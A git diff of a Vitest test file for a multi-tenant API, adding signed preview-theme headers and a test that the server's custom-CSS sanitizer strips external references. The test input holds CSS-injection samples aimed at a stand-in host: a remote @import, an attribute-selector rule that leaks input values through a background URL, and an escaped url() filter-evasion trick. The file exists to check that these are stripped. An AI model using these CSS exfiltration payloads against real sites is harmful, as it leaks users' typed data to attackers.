@@ -1,9 +1,11 @@
 import { describe, expect, it } from "vitest";
 import { encodePreviewTheme } from "../../../domain/preview-theme";
+import { signPreviewTheme } from "../../tenancy/preview-signature";
 import { SOLO, SPA } from "../../testing";
 import { useTestServer } from "../../use-test-server";
 
 const server = useTestServer();
+const signed = (company: string, themes: unknown) => signPreviewTheme(server.config.PREVIEW_SECRET, company, encodePreviewTheme(themes), new Date()).previewTheme;
 
 describe("tenant resolution", () => {
   it("finds a company's token by host, ignoring the port", async () => {
@@ -67,8 +69,8 @@ describe("GET /api/companies/me", () => {
     void database;
   });
 
-  it("lays a preview theme from the previewtheme header over the company's theme", async () => {
-    const previewtheme = encodePreviewTheme({ colors: { primary: "#ff0066" } });
+  it("lays a preview theme the server signed, from the previewtheme header, over the company's theme", async () => {
+    const previewtheme = signed(SPA, { colors: { primary: "#ff0066" } });
     const { company } = await (await server.api("/api/companies/me", { headers: { previewtheme } })).json();
     expect(company.settings.themes.colors.primary).toBe("#ff0066");
     expect(company.settings.themes.colors.secondary).toBe("#B9A04E");
@@ -76,10 +78,26 @@ describe("GET /api/companies/me", () => {
     expect(plain.company.settings.themes.colors.primary).toBe("#1a1b1b");
   });
 
-  it("refuses an unreadable preview theme with a 400 naming the header", async () => {
-    const res = await server.api("/api/companies/me", { headers: { previewtheme: "%%%not-base64" } });
-    expect(res.status).toBe(400);
-    expect((await res.json()).error.fields).toEqual({ previewtheme: "invalid" });
+  it("refuses an unreadable, unsigned, expired or another business's preview theme with a 400 naming the header", async () => {
+    const theme = encodePreviewTheme({ colors: { primary: "#ff0066" } });
+    const expired = signPreviewTheme(server.config.PREVIEW_SECRET, SPA, theme, new Date(Date.now() - 31 * 60_000)).previewTheme;
+    for (const previewtheme of ["%%%not-base64", theme, `${theme}.9999999999.${"A".repeat(43)}`, expired, signed(SOLO, { colors: { primary: "#ff0066" } })]) {
+      const res = await server.api("/api/companies/me", { headers: { previewtheme } });
+      expect(res.status, previewtheme).toBe(400);
+      expect((await res.json()).error.fields).toEqual({ previewtheme: "invalid" });
+    }
+  });
+
+  it("custom CSS reaches the page without @import or addresses of other sites; a preview's stylesheet only from the business's font hosts", async () => {
+    const customCss = `@import url(https://evil.example/x.css); h1{color:red} input[value^=a]{background:url(https://evil.example/leak?e=a)} .logo{background:url(/images/logo.svg)} .x{background:url("//evil.example/y")} .y{background:u\\72l(https://evil.example/z)}`;
+    const previewtheme = signed(SPA, { customCss, fonts: { title: { name: "Evil", url: "https://evil.example/evil.css" } } });
+    const { company } = await (await server.api("/api/companies/me", { headers: { previewtheme } })).json();
+    const css: string = company.settings.themes.customCss;
+    expect(css).toContain("h1{color:red}");
+    expect(css).toContain("url(/images/logo.svg)");
+    expect(css).not.toContain("evil.example");
+    expect(css).not.toContain("@import");
+    expect(company.settings.themes.fonts.title.url).not.toContain("evil.example");
   });
 });
 
